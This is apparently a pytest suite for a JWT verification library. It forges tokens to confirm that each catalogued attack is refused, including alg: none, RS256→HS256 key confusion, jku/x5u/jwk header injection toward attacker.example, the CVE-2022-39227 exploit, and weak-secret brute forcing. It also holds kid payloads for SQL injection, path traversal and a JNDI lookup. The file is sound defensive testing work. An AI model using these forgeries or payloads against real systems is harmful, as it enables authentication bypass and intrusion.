"""The attacks on tokens by the names they go by, and the check that stops each: forged from bytes, not by the package.

The attacker has the issuer's public keys, genuine tokens and a key pair of their own; never the issuer's private half.
"""

import base64
import hashlib
import hmac
import json
import math
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from functools import cache, partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_private_key

from authkit import RFC9068, KeySet, KeySetError, RemoteKeySet, SteerableClock, TokenRejected, Verifier
from authkit.jose.training_keys import training_key

NOW = 1767603600  # where a SteerableClock starts
ISSUER, AUDIENCE, CLIENT = "https://issuer.example/", "https://orders.example/", "nightly-report"
OTHER_API, EVIL = "https://stock.example/", "https://attacker.example/"
SECRET = b"a-shared-secret-of-a-good-length-for-tests!"
PAYLOAD = {"iss": ISSUER, "sub": "app@clients", "aud": AUDIENCE, "iat": NOW, "exp": NOW + 3600}
ADMIN = {**PAYLOAD, "sub": "admin", "scope": "read:orders delete:orders"}
RS, HS = {"alg": "RS256", "typ": "JWT", "kid": "issuer-1"}, {"alg": "HS256", "typ": "JWT"}

CATALOGUE = (
    "unverified signature", "alg: none", "null signature", "weak HMAC secret, brute-forced", "blank HMAC secret",
    "RS256→HS256 key confusion", "key confusion with no exposed key", "jwk header injection",
    "jku / x5u header injection", "x5c header injection", "kid path traversal, kid SQL injection",
    "claim processed before the signature check", "substitution: a token for another API", "issuer confusion",
    "ID token used as access token, /userinfo audience misuse", "trailing-slash mismatch of iss or aud",
    "duplicate JSON members", "non-canonical base64url, padded segments",
    "compact versus JSON serialisation confusion", "crit ignored, b64: false", "oversized token, deep nesting",
    "expired token replayed; clock tampering; exp in milliseconds or as a string", "stolen refresh token replayed",
    "stale JWKS cache after a revocation", "one HS256 secret shared by two APIs", "scope taken for permission",
)  # fmt: skip
"""Every attack the kit knows of."""
NOT_A_VERIFIERS = ("stolen refresh token replayed", "scope taken for permission")
"""The token is genuine: the token endpoint stops the one, the API's own code the other."""


# What both sides have


@cache
def pooled(number: int) -> rsa.RSAPrivateKey:
    key = load_pem_private_key(training_key(number).encode(), password=None)
    assert isinstance(key, rsa.RSAPrivateKey)
    return key


@cache
def attackers() -> rsa.RSAPrivateKey:
    """A key pair that anyone can make."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def octets(value: int) -> bytes:
    return value.to_bytes((value.bit_length() + 7) // 8)


def jwk_of(key: rsa.RSAPrivateKey, **members: Any) -> dict[str, Any]:
    public = key.public_key().public_numbers()
    return {"kty": "RSA", "use": "sig", "n": b64(octets(public.n)), "e": b64(octets(public.e)), **members}


ISSUERS_JWK = jwk_of(pooled(0), kid="issuer-1", alg="RS256")


def rs256(signing_input: bytes, key: rsa.RSAPrivateKey | None = None) -> bytes:
    return (key or pooled(0)).sign(signing_input, padding.PKCS1v15(), hashes.SHA256())


def by_attacker(signing_input: bytes) -> bytes:
    return rs256(signing_input, attackers())


def hs256(signing_input: bytes, secret: bytes = SECRET) -> bytes:
    return hmac.digest(secret, signing_input, "sha256")


def with_secret(secret: bytes) -> Callable[[bytes], bytes]:
    return partial(hs256, secret=secret)


def unsigned(_: bytes) -> bytes:
    return b""


def written(part: dict[str, Any] | bytes) -> bytes:
    return part if isinstance(part, bytes) else json.dumps(part, separators=(",", ":")).encode()


def sealed(
    header: dict[str, Any] | bytes, payload: dict[str, Any] | bytes = ADMIN, signer: Callable[[bytes], bytes] = rs256
) -> str:
    signing_input = f"{b64(written(header))}.{b64(written(payload))}"
    return f"{signing_input}.{b64(signer(signing_input.encode()))}"


def issued(**claims: Any) -> str:
    """A genuine token of the issuer's, with these claims."""
    return sealed(RS, {**PAYLOAD, **claims})


def twice(part: dict[str, Any], member: bytes) -> bytes:
    """The JSON of this part, with one more member behind it."""
    return written(part)[:-1] + b"," + member + b"}"


@cache
def genuine() -> str:
    return issued()


def swapped(number: int, segment: str, token: str | None = None) -> str:
    """A token with one segment replaced and the other two kept."""
    segments = (token or genuine()).split(".")
    segments[number] = segment
    return ".".join(segments)


@cache
def verifier(kind: str, now: int = NOW) -> Verifier:
    """RS: RS256 with the issuer's JWKS. HS: HS256. both: RS256 and HS256 allowed, by mistake. AT: RFC 9068."""
    keys = KeySet.from_secret(SECRET) if kind == "HS" else KeySet.from_jwks({"keys": [ISSUERS_JWK]})
    special: dict[str, dict[str, Any]] = {
        "RS": {},
        "HS": {"algorithms": ["HS256"]},
        "both": {"algorithms": ["RS256", "HS256"]},
        "AT": {"policy": RFC9068},
    }
    clock = SteerableClock(datetime.fromtimestamp(now, UTC))
    return Verifier(issuer=ISSUER, audience=AUDIENCE, keys=keys, clock=clock, **special[kind])


def refusal(verifier: Verifier, token: Any) -> str:
    """The code of the refusal, on which verify and explain agree; empty if the token is accepted."""
    verdict = verifier.explain(token)
    try:
        verifier.verify(token)
    except (TokenRejected, KeySetError) as error:
        assert verdict.claims is None and verdict.decisive is not None and verdict.decisive.code == error.code
        return error.code
    assert verdict.outcome == "accepted"
    return ""


# The forgeries


class Attack(NamedTuple):
    """A forged or misused token, the kind of verifier it is sent to, and the code it is refused by."""

    sent_to: str
    token: Any
    code: str
    now: int = NOW


def public_forms() -> dict[str, bytes]:
    """Everything in which a public key is ever written down: what a confused verifier might take for its secret."""
    public = pooled(0).public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return {
        "PEM": pem,
        "PEM without its last line break": pem.rstrip(b"\n"),
        "PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "PEM in one line": pem.replace(b"\n", b"\\n"),
        "PEM of PKCS #1": public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "certificate": certificate(pooled(0)).public_bytes(Encoding.PEM),
        "DER": der,
        "DER of PKCS #1": public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "DER of the certificate": certificate(pooled(0)).public_bytes(Encoding.DER),
        "base64 of the DER": base64.b64encode(der),
        "OpenSSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": json.dumps(ISSUERS_JWK).encode(),
        "JWKS": json.dumps({"keys": [ISSUERS_JWK]}).encode(),
        "n of the JWK as text": ISSUERS_JWK["n"].encode(),
        "n of the JWK as bytes": octets(public.public_numbers().n),
    }


@cache
def certificate(key: rsa.RSAPrivateKey) -> x509.Certificate:
    """A certificate in the issuer's name that the key signed for itself."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "issuer.example")])
    start, end = (datetime.fromtimestamp(NOW + years * 31536000, UTC) for years in (-1, 9))
    builder = x509.CertificateBuilder(name, name, key.public_key(), 1, start, end)
    return builder.sign(key, hashes.SHA256())


def attackers_certificate() -> dict[str, Any]:
    der = certificate(attackers()).public_bytes(Encoding.DER)
    thumbprint = b64(hashlib.sha256(der).digest())
    return {"x5c": [base64.b64encode(der).decode()], "x5t#S256": thumbprint}


def confused() -> dict[str, Attack]:
    attacks = {}
    for form, secret in public_forms().items():
        token = sealed({**HS, "kid": "issuer-1"}, signer=with_secret(secret))
        attacks[form] = Attack("RS", token, "alg.not_allowed")
        attacks[f"{form}, HS256 allowed too"] = Attack("both", token, "key.wrong_kind")
        nameless = sealed(HS, signer=with_secret(secret))
        attacks[f"{form}, HS256 allowed too, no kid"] = Attack("both", nameless, "key.wrong_kind")
    return attacks


NONES: dict[str, tuple[dict[str, Any], str]] = {
    **{repr(name): ({"alg": name}, "alg.none") for name in ("none", "None", "NONE", "nOnE", "noNE")},
    **{
        ascii(name): ({"alg": name}, "alg.not_allowed")
        for name in ("none ", " none", "none\0", "", "null", "\uff4e\uff4f\uff4e\uff45")
    },
    "null": ({"alg": None}, "alg.not_text"),
    "false": ({"alg": False}, "alg.not_text"),
    "in a list": ({"alg": ["none", "RS256"]}, "alg.not_text"),
    "no alg at all": ({}, "alg.missing"),
}


def nones() -> dict[str, Attack]:
    attacks = {}
    for name, (header, code) in NONES.items():
        for kind in ("RS", "HS", "both"):
            attacks[f"{name} to {kind}"] = Attack(kind, sealed({**header, "typ": "JWT"}, signer=unsigned), code)
        kept = swapped(0, b64(written({**header, "typ": "JWT"})))
        attacks[f"{name}, the signature kept"] = Attack("RS", kept, code)
    return attacks


GUESSES = ("secret", "password", "changeme", "your-256-bit-secret", "jwt", "letmein", "supersecret")
TRAVERSALS = ("../../../../dev/null", "/dev/null", "file:///dev/null", "C:\\nul", "..%2f..%2fdev%2fnull")
QUERIES = ("x' UNION SELECT 'attacker' -- ", "' OR '1'='1", '"; DROP TABLE keys; --', "issuer-1' AND '1'='1")


def named_keys() -> dict[str, Attack]:
    attacks = {}
    for kid in (*TRAVERSALS, *QUERIES, "issuer-1\0", "|id", "{{7*7}}", "${jndi:ldap://attacker.example/}"):
        # The file is empty, or the query returns the attacker's word: that is the secret it is signed with.
        secret = b"attacker" if "UNION" in kid else b""
        attacks[f"{kid!r} as HS256"] = Attack("RS", sealed({**HS, "kid": kid}, signer=with_secret(secret)),
                                              "alg.not_allowed")  # fmt: skip
        attacks[f"{kid!r} to HS"] = Attack("HS", sealed({**HS, "kid": kid}, signer=with_secret(secret)),
                                           "signature.mismatch")  # fmt: skip
        attacks[f"{kid!r} as RS256"] = Attack("RS", sealed({**RS, "kid": kid}, signer=by_attacker), "key.unknown_kid")
    return attacks


def with_header(**members: Any) -> str:
    """The attacker's claims, signed with the attacker's key, and a header that points to it."""
    return sealed({**RS, **members}, signer=by_attacker)


def pointers(**members: Any) -> dict[str, Attack]:
    """The header under the issuer's kid, under one of the attacker's, and without any."""
    nameless = {name: value for name, value in RS.items() if name != "kid"}
    return {
        "under the issuer's kid": Attack("RS", with_header(**members), "signature.mismatch"),
        "under the attacker's kid": Attack("RS", with_header(**members, kid="attacker"), "key.unknown_kid"),
        "without a kid": Attack("RS", sealed({**nameless, **members}, signer=by_attacker), "signature.mismatch"),
    }


def python_jwt_confusion() -> str:
    """The exploit of CVE-2022-39227: a JSON serialisation whose first name is the forged compact token."""
    header, payload, signature = genuine().split(".")
    forged = {f"  {header}.{b64(written(ADMIN))}.": "", "protected": header, "payload": payload, "signature": signature}
    return json.dumps(forged, separators=(",", ":"))


def flattened() -> dict[str, Any]:
    return dict(zip(("protected", "payload", "signature"), genuine().split("."), strict=True))


def padded(segment: str) -> str:
    return segment + "=" * (-len(segment) % 4 or 4)


def nested(opening: bytes, closing: bytes, depth: int) -> bytes:
    return twice(ADMIN, b'"x":' + opening * depth + b"1" + closing * depth)


ACCESS = {**PAYLOAD, "client_id": CLIENT, "jti": "1"}
AT = {**RS, "typ": "at+jwt"}
UNENCODED = f"{b64(written({**RS, 'b64': False, 'crit': ['b64']}))}."
DETACHED = f"{UNENCODED}.{b64(rs256(UNENCODED.encode() + written(ADMIN)))}"

ATTACKS: dict[str, dict[str, Attack]] = {
    "unverified signature": {
        "claims edited": Attack("RS", swapped(1, b64(written(ADMIN))), "signature.mismatch"),
        "claims edited, HS256": Attack(
            "HS", swapped(1, b64(written(ADMIN)), sealed(HS, PAYLOAD, hs256)), "signature.mismatch"),
        "signed with the attacker's key": Attack("RS", sealed(RS, signer=by_attacker), "signature.mismatch"),
        "signed with a word": Attack("RS", swapped(2, b64(b"trust me")), "signature.mismatch"),
        "signature of another token": Attack("RS", swapped(2, issued(sub="x").split(".")[2]), "signature.mismatch"),
    },
    "alg: none": nones(),
    "null signature": {
        "empty": Attack("RS", sealed(RS, signer=unsigned), "signature.mismatch"),
        "empty, HS256": Attack("HS", sealed(HS, signer=unsigned), "signature.mismatch"),
        "zeros": Attack("RS", sealed(RS, signer=lambda _: bytes(256)), "signature.mismatch"),
        "zeros, HS256": Attack("HS", sealed(HS, signer=lambda _: bytes(32)), "signature.mismatch"),
        "one": Attack("RS", sealed(RS, signer=lambda _: bytes(255) + b"\1"), "signature.mismatch"),
        "left out": Attack("RS", genuine().rpartition(".")[0], "form.segments"),
        "the first byte of it": Attack("HS", sealed(HS, signer=lambda m: hs256(m)[:1]), "signature.mismatch"),
    },
    "weak HMAC secret, brute-forced": {
        guess: Attack("HS", sealed(HS, signer=with_secret(guess.encode())), "signature.mismatch") for guess in GUESSES
    },
    "blank HMAC secret": {
        ascii(secret): Attack("HS", sealed(HS, signer=with_secret(secret)), "signature.mismatch")
        for secret in (b"", b"\0", b" ", b"null", b"None", b"undefined", b'""')
    },
    "RS256→HS256 key confusion": confused(),
    "jwk header injection": {
        **pointers(jwk=jwk_of(attackers())),
        "with the issuer's kid in the JWK": Attack(
            "RS", with_header(jwk=jwk_of(attackers(), kid="issuer-1")), "signature.mismatch"),
        "the issuer's own key": Attack("RS", with_header(jwk=ISSUERS_JWK), "signature.mismatch"),
        "a secret": Attack(
            "RS", sealed({**HS, "jwk": {"kty": "oct", "k": b64(b"attacker" * 4)}}, signer=with_secret(b"attacker" * 4)),
            "alg.not_allowed"),
        "a secret, to HS": Attack(
            "HS", sealed({**HS, "jwk": {"kty": "oct", "k": b64(b"attacker" * 4)}}, signer=with_secret(b"attacker" * 4)),
            "signature.mismatch"),
    },
    "jku / x5u header injection": {
        f"{member} {uri}, {name}": attack
        for member in ("jku", "x5u")
        for uri in (f"{EVIL}keys", f"{ISSUER}redirect?to={EVIL}", f"{ISSUER[:-1]}@attacker.example/", "file:///dev/null")
        for name, attack in pointers(**{member: uri}).items()
    },
    "x5c header injection": pointers(**attackers_certificate()),
    "kid path traversal, kid SQL injection": named_keys(),
    "claim processed before the signature check": {
        "another issuer": Attack("RS", sealed(RS, {**ADMIN, "iss": EVIL}, by_attacker), "signature.mismatch"),
        "expired": Attack("RS", sealed(RS, {**ADMIN, "exp": 1}, by_attacker), "signature.mismatch"),
        "no claims": Attack("RS", sealed(RS, {}, by_attacker), "signature.mismatch"),
        "the attacker's issuer and kid": Attack(
            "RS", sealed({**RS, "kid": "attacker"}, {**ADMIN, "iss": EVIL}, by_attacker), "key.unknown_kid"),
    },
    "substitution: a token for another API": {
        "another API": Attack("RS", issued(aud=OTHER_API), "aud.mismatch"),
        "several others": Attack("RS", issued(aud=[OTHER_API, f"{ISSUER}api/v2/"]), "aud.mismatch"),
        "a longer name": Attack("RS", issued(aud=f"{AUDIENCE}.attacker.example/"), "aud.mismatch"),
        "a shorter name": Attack("RS", issued(aud="https://orders.example"), "aud.mismatch"),
        "both names in one text": Attack("RS", issued(aud=f"{OTHER_API} {AUDIENCE}"), "aud.mismatch"),
        "other case": Attack("RS", issued(aud=AUDIENCE.upper()), "aud.mismatch"),
        "a wildcard": Attack("RS", issued(aud="*"), "aud.mismatch"),
        "no audience": Attack("RS", sealed(RS, {**PAYLOAD, "aud": None}), "aud.not_text"),
    },
    "issuer confusion": {
        "another tenant under the same keys": Attack("RS", issued(iss="https://other.example/"), "iss.mismatch"),
        "the attacker's tenant, its own key": Attack(
            "RS", sealed({**RS, "kid": "attacker"}, {**ADMIN, "iss": EVIL}, by_attacker), "key.unknown_kid"),
        "the issuer's name, the attacker's key": Attack("RS", sealed(RS, ADMIN, by_attacker), "signature.mismatch"),
        "both issuers in a list": Attack("RS", issued(iss=[ISSUER, EVIL]), "iss.not_text"),
        "a longer host": Attack("RS", issued(iss="https://issuer.example.attacker.example/"), "iss.mismatch"),
        "a user name before the host": Attack("RS", issued(iss=f"{ISSUER[:-1]}@attacker.example/"), "iss.mismatch"),
        "a look-alike letter": Attack("RS", issued(iss=ISSUER.replace("i", "\u0456")), "iss.mismatch"),
        "the default port": Attack("RS", issued(iss="https://issuer.example:443/"), "iss.mismatch"),
    },
    "ID token used as access token, /userinfo audience misuse": {
        "ID token": Attack("RS", issued(aud=CLIENT, nonce="n", at_hash="h"), "aud.mismatch"),
        "ID token for several": Attack("RS", issued(aud=[CLIENT], azp=CLIENT), "aud.mismatch"),
        "ID token with the API's audience, RFC 9068": Attack("AT", sealed(RS, ACCESS), "typ.wrong"),
        "/userinfo alone": Attack("RS", issued(aud=[f"{ISSUER}userinfo"]), "aud.mismatch"),
        "logout token": Attack("RS", sealed({**RS, "typ": "logout+jwt"}, PAYLOAD), "typ.wrong"),
        "proof of possession": Attack("RS", sealed({**RS, "typ": "dpop+jwt"}, PAYLOAD), "typ.wrong"),
        "client assertion": Attack("RS", issued(iss=CLIENT, sub=CLIENT, aud=ISSUER), "iss.mismatch"),
        "no typ": Attack("RS", sealed({"alg": "RS256", "kid": "issuer-1"}, PAYLOAD), "typ.missing"),
        "access token of RFC 9068 to the other dialect": Attack("RS", sealed(AT, ACCESS), "typ.wrong"),
    },
    "trailing-slash mismatch of iss or aud": {
        "iss without": Attack("RS", issued(iss=ISSUER[:-1]), "iss.mismatch"),
        "iss with two": Attack("RS", issued(iss=f"{ISSUER}/"), "iss.mismatch"),
        "aud without": Attack("RS", issued(aud=AUDIENCE[:-1]), "aud.mismatch"),
        "aud with two": Attack("RS", issued(aud=f"{AUDIENCE}/"), "aud.mismatch"),
        "aud without, in a list": Attack("RS", issued(aud=[AUDIENCE[:-1], OTHER_API]), "aud.mismatch"),
    },
    "duplicate JSON members": {
        "alg": Attack("RS", sealed(b'{"alg":"none",' + written(RS)[1:], PAYLOAD), "json.duplicate_member"),
        "kid": Attack("RS", sealed(twice(RS, b'"kid":"attacker"'), PAYLOAD), "json.duplicate_member"),
        "aud": Attack("RS", sealed(RS, twice(PAYLOAD, written({"aud": OTHER_API})[1:-1])), "json.duplicate_member"),
        "exp": Attack("RS", sealed(RS, twice(PAYLOAD, b'"exp":253402300799')), "json.duplicate_member"),
        "sub, escaped": Attack("RS", sealed(RS, twice(PAYLOAD, b'"s\\u0075b":"admin"')), "json.duplicate_member"),
        "nested": Attack("RS", sealed(RS, twice(PAYLOAD, b'"act":{"sub":"a","sub":"b"}')), "json.duplicate_member"),
    },
    "non-canonical base64url, padded segments": {
        "padded header": Attack("RS", swapped(0, padded(genuine().split(".")[0])), "base64url.padding"),
        "padded payload": Attack("RS", swapped(1, padded(genuine().split(".")[1])), "base64url.padding"),
        "padded signature": Attack("RS", f"{genuine()}==", "base64url.padding"),
        "padded in URL encoding": Attack("RS", f"{genuine()}%3D%3D", "base64url.alphabet"),
        "standard alphabet": Attack("RS", swapped(2, "+/" * 171), "base64url.alphabet"),
        "line break behind": Attack("RS", f"{genuine()}\n", "base64url.alphabet"),
        "line break inside": Attack("RS", genuine().replace(".", ".\r\n", 1), "base64url.alphabet"),
        "space before": Attack("RS", f" {genuine()}", "base64url.alphabet"),
        "zero-width space": Attack("RS", f"{genuine()}\u200b", "base64url.alphabet"),
        "a character too many": Attack("RS", f"{genuine()}AAA", "base64url.length"),
    },
    "compact versus JSON serialisation confusion": {
        "CVE-2022-39227": Attack("RS", python_jwt_confusion(), "base64url.alphabet"),
        "flattened": Attack("RS", json.dumps(flattened()), "form.segments"),
        "flattened, as an object": Attack("RS", flattened(), "size.not_text"),
        "general": Attack(
            "RS", json.dumps({"payload": flattened()["payload"], "signatures": [flattened()]}), "form.segments"),
        "two tokens in one text": Attack("RS", f"{genuine()} {genuine()}", "form.segments"),
        "a token behind a token": Attack("RS", f"{sealed(RS, ADMIN, unsigned)}{genuine()}", "form.segments"),
        "an encrypted token": Attack("RS", "e30.e30.e30.e30.e30", "form.segments"),
    },
    "crit ignored, b64: false": {
        "an extension nobody knows": Attack(
            "RS", sealed({**RS, "crit": ["bound"], "bound": "device-1"}, PAYLOAD), "crit.unsupported"),
        "an extension that is not there": Attack("RS", sealed({**RS, "crit": ["bound"]}, PAYLOAD), "crit.unsupported"),
        "b64 false": Attack("RS", sealed({**RS, "b64": False, "crit": ["b64"]}, PAYLOAD), "crit.unsupported"),
        "b64 false without crit": Attack("RS", sealed({**RS, "b64": False}, PAYLOAD), "crit.unsupported"),
        "b64 false, the payload in clear": Attack(
            "RS", f"{UNENCODED}{{}}.{b64(rs256(f'{UNENCODED}{{}}'.encode()))}", "base64url.alphabet"),
        "b64 false, the payload elsewhere": Attack("RS", DETACHED, "json.not_json"),
        "compressed": Attack("RS", sealed({**RS, "zip": "DEF"}, PAYLOAD), "crit.unsupported"),
        "nested": Attack("RS", sealed({**RS, "cty": "JWT"}, PAYLOAD), "crit.unsupported"),
    },
    "oversized token, deep nesting": {
        "a long claim": Attack("RS", issued(x="y" * 16_384), "size.too_large"),
        "ten megabytes": Attack("RS", "A" * 10_000_000, "size.too_large"),
        "ten megabytes of dots": Attack("RS", "." * 10_000_000, "size.too_large"),
        "thousands of dots": Attack("RS", "." * 16_000, "form.segments"),
        "lists": Attack("RS", sealed(RS, nested(b"[", b"]", 5000)), "json.too_deep"),
        "objects": Attack("RS", sealed(RS, nested(b'{"a":', b"}", 1000)), "json.too_deep"),
        "never closed, in the header": Attack("RS", sealed(b'{"a":' * 1500), "json.too_deep"),
        "a number without end": Attack(
            "RS", sealed(RS, twice(PAYLOAD, b'"n":' + b"9" * 9000)), "json.number_too_large"),
    },
    "expired token replayed; clock tampering; exp in milliseconds or as a string": {
        "at the very second": Attack("RS", genuine(), "exp.expired", NOW + 3600),
        "a year later": Attack("RS", genuine(), "exp.expired", NOW + 31536000),
        "exp moved on under the old signature": Attack(
            "RS", swapped(1, b64(written({**PAYLOAD, "exp": NOW + 10**8}))), "signature.mismatch", NOW + 3600),
        "exp taken out under the old signature": Attack(
            "RS", swapped(1, b64(written({**PAYLOAD, "exp": None}))), "signature.mismatch", NOW + 3600),
        "the verifier's clock put back": Attack("RS", genuine(), "iat.in_the_future", NOW - 61),
        "the issuer's clock put forward": Attack(
            "RS", issued(iat=NOW + 86400, exp=NOW + 90000), "iat.in_the_future"),
        "before its time": Attack("RS", issued(nbf=NOW + 1), "nbf.too_early"),
        "milliseconds": Attack("RS", issued(exp=(NOW - 1) * 1000), "exp.not_a_date"),
        "text": Attack("RS", issued(exp=str(NOW + 3600)), "exp.not_a_date"),
        "a date in words": Attack("RS", issued(exp="2099-01-01T00:00:00Z"), "exp.not_a_date"),
        "true": Attack("RS", issued(exp=True), "exp.not_a_date"),
        "NaN": Attack("RS", sealed(RS, written(PAYLOAD).replace(b"1767607200", b"NaN")), "json.not_a_number"),
        "infinity by overflow": Attack(
            "RS", sealed(RS, written(PAYLOAD).replace(b"1767607200", b"1e999")), "json.number_too_large"),
        "a huge number": Attack("RS", sealed(RS, written(PAYLOAD).replace(b"1767607200", b"1e300")), "exp.not_a_date"),
        "never": Attack("RS", sealed(RS, {name: PAYLOAD[name] for name in ("iss", "sub", "aud", "iat")}),
                        "required.missing"),
    },
    "one HS256 secret shared by two APIs": {
        "a token for the other API": Attack("HS", sealed(HS, {**PAYLOAD, "aud": OTHER_API}, hs256), "aud.mismatch"),
        "signed with the other API's own secret": Attack(
            "HS", sealed(HS, signer=with_secret(b"the-other-secret" * 2)), "signature.mismatch"),
    },
}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "variant"), [(name, variant) for name, variants in ATTACKS.items() for variant in variants]
)
def test_the_attack_is_refused(name: str, variant: str) -> None:
    """By the check the catalogue names, whatever else may be wrong with the token."""
    attack = ATTACKS[name][variant]
    assert refusal(verifier(attack.sent_to, attack.now), attack.token) == attack.code


@pytest.mark.parametrize(
    ("kind", "token"),
    [
        ("RS", genuine()),
        ("RS", issued(aud=[AUDIENCE, f"{ISSUER}userinfo"])),
        ("both", genuine()),
        ("HS", sealed(HS, PAYLOAD, hs256)),
        ("AT", sealed(AT, ACCESS)),
    ],
)
def test_every_verifier_accepts_what_is_genuine(kind: str, token: str) -> None:
    """Otherwise its refusals would prove nothing."""
    assert refusal(verifier(kind), token) == ""


# The attacks that take more than one token


def test_a_guessable_secret_is_found_offline_and_never_becomes_a_key_set() -> None:
    """One captured token and a list of words are enough; authkit takes no secret that stands on such a list."""
    signing_input, _, mac = sealed(HS, PAYLOAD, with_secret(b"letmein")).rpartition(".")
    found = [guess for guess in GUESSES if b64(hs256(signing_input.encode(), guess.encode())) == mac]
    assert found == ["letmein"]
    signing_input, _, mac = sealed(HS, PAYLOAD, hs256).rpartition(".")
    assert not [guess for guess in GUESSES if b64(hs256(signing_input.encode(), guess.encode())) == mac]
    for guess in GUESSES:
        assert unusable(KeySet.from_secret, guess.encode()) == "key_set.secret_too_short"


def unusable(make: Callable[[Any], KeySet], material: Any) -> str:
    with pytest.raises(KeySetError) as caught:
        make(material)
    return caught.value.code


def test_a_blank_secret_never_becomes_a_key_set() -> None:
    """In none of the ways a secret can be given."""
    assert unusable(KeySet.from_secret, b"") == "key_set.secret_too_short"
    assert unusable(KeySet.from_secret_base64url, "") == "key_set.secret_too_short"
    assert unusable(KeySet.from_jwks, {"keys": [{"kty": "oct", "k": ""}]}) == "key_set.secret_too_short"


RANDOM_TO_THE_EYE = {"base64 of the DER", "n of the JWK as text", "n of the JWK as bytes"}


@pytest.mark.parametrize("form", sorted(public_forms().keys() - RANDOM_TO_THE_EYE))
def test_a_public_key_never_becomes_a_secret(form: str) -> None:
    """The confusion fails on the verifier's side too: whoever mistakes a key for a secret is told so."""
    assert unusable(KeySet.from_secret, public_forms()[form]) == "key_set.secret_public_key"


def multiple_of_the_modulus(token: str, e: int) -> int:
    """s^e - m, which the modulus divides: m is what RSASSA-PKCS1-v1_5 pads the hash to (RFC 8017 §9.2)."""
    signing_input, _, segment = token.rpartition(".")
    signature = base64.urlsafe_b64decode(segment + "==")
    digest_info = (
        bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(signing_input.encode()).digest()
    )
    padded_hash = b"\0\1" + b"\xff" * (len(signature) - 3 - len(digest_info)) + b"\0" + digest_info
    return int(int.from_bytes(signature) ** e) - int.from_bytes(padded_hash)


def without_small_factors(number: int) -> int:
    for factor in range(2, 1000):
        while number % factor == 0:
            number //= factor
    return number


def test_a_public_key_is_recovered_from_two_tokens_and_helps_nobody() -> None:
    """The modulus is the greatest common divisor of what two signatures give: keeping a public key secret is no help.

    Here with e = 3: for 65537 it is the same arithmetic on numbers of 134 million bits, which takes Python hours.
    """
    issuer = rsa.generate_private_key(public_exponent=3, key_size=2048)
    tokens = [sealed(RS, {**PAYLOAD, "sub": sub}, partial(rs256, key=issuer)) for sub in ("alice", "bob")]
    n = without_small_factors(math.gcd(*(multiple_of_the_modulus(token, 3) for token in tokens)))
    assert n == issuer.public_key().public_numbers().n

    public = rsa.RSAPublicNumbers(3, n).public_key()
    recovered = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    keys = KeySet.from_jwks({"keys": [jwk_of(issuer, kid="issuer-1")]})
    forged = sealed({**HS, "kid": "issuer-1"}, signer=with_secret(recovered))
    for algorithms, code in ((["RS256"], "alg.not_allowed"), (["RS256", "HS256"], "key.wrong_kind")):
        strict = Verifier(issuer=ISSUER, audience=AUDIENCE, keys=keys, algorithms=algorithms, clock=SteerableClock())
        assert [refusal(strict, token) for token in tokens] == ["", ""]
        assert refusal(strict, forged) == code


@pytest.mark.parametrize("variant", ATTACKS["claim processed before the signature check"])
def test_no_claim_is_judged_before_the_signature(variant: str) -> None:
    """explain says of every claim that it is not trusted, and gives none of them away."""
    verdict = verifier("RS").explain(ATTACKS["claim processed before the signature check"][variant].token)
    claims = [check for check in verdict.checks if check.name in ("iss", "aud", "exp", "nbf", "iat", "required")]
    assert len(claims) == 6 and verdict.claims is None
    assert all(check.status == "skipped" and "not trusted" in check.note for check in claims)


def test_a_token_has_one_spelling_so_that_a_deny_list_holds() -> None:
    """Whatever else a lenient decoder reads as the same bytes is another text, and is refused."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    segment = genuine().rpartition(".")[2]
    others = [segment[:-1] + letter for letter in alphabet if letter != segment[-1]]
    bytes_of = [base64.urlsafe_b64decode(other + "==") for other in others]
    same = [
        other for other, raw in zip(others, bytes_of, strict=True) if raw == base64.urlsafe_b64decode(segment + "==")
    ]
    assert len(same) == 15
    assert {refusal(verifier("RS"), swapped(2, other)) for other in same} == {"base64url.not_canonical"}
    assert {refusal(verifier("RS"), swapped(2, other)) for other in others if other not in same} <= {
        "base64url.not_canonical",
        "signature.mismatch",
    }


def test_two_apis_with_one_secret_can_forge_for_each_other() -> None:
    """A shared secret proves nothing about who wrote the token; a secret of its own does, and RS256 does."""
    forged_by_stock = sealed(HS, ADMIN, hs256)
    assert refusal(verifier("HS"), forged_by_stock) == ""  # no check can tell: both hold the same secret
    own = KeySet.from_secret(b"the-secret-of-the-orders-api-alone")
    apart = Verifier(issuer=ISSUER, audience=AUDIENCE, keys=own, algorithms=["HS256"], clock=SteerableClock())
    assert refusal(apart, forged_by_stock) == "signature.mismatch"
    assert refusal(verifier("RS"), forged_by_stock) == "alg.not_allowed"


class Endpoint:
    """A JWKS endpoint on loopback, which counts its requests and can fail."""

    def __init__(self) -> None:
        self.status, self.body, self.requests = 200, b"", 0
        endpoint = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                endpoint.requests += 1
                self.send_response(endpoint.status)
                self.send_header("Content-Length", str(len(endpoint.body)))
                self.end_headers()
                self.wfile.write(endpoint.body)

            def log_message(self, format: str, *arguments: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,))
        self.thread.start()
        self.url = f"http://127.0.0.1:{self.server.server_port}/jwks.json"

    def serve(self, *keys: dict[str, Any]) -> None:
        self.body = json.dumps({"keys": keys}).encode()

    def stop(self) -> None:
        self.server.shutdown()
